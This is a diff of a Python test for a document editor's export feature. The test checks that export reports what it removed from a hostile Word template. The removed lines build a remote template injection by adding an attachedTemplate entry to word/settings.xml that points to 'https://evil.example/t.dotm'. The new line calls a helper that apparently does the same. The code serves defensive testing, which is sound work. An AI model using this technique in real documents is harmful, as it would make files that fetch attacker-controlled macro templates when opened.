@@ -386,17 +386,10 @@ def test_export_says_what_it_removed_from_the_template(
     settings: QSettings,
     editor: Editor,
 ) -> None:
-    from tests.export.test_hostile_templates import R, edited, with_relationship
+    from tests.export.test_hostile_templates import remote_template_injection
     from tests.export.test_hostile_templates import write as write_template
 
-    data = edited(
-        "word/settings.xml",
-        b"<w:defaultTabStop",
-        b'<w:attachedTemplate r:id="rIdT"/><w:defaultTabStop',
-    )
-    data = with_relationship(
-        data, "word/settings.xml", "rIdT", f"{R}/attachedTemplate", "https://evil.example/t.dotm"
-    )
+    data = remote_template_injection()
     settings.setValue("export/template", str(write_template(tmp_path, data)))
     path = write(tmp_path / "clean.jd.json", READY)
     assert editor.documents.open_path(path)
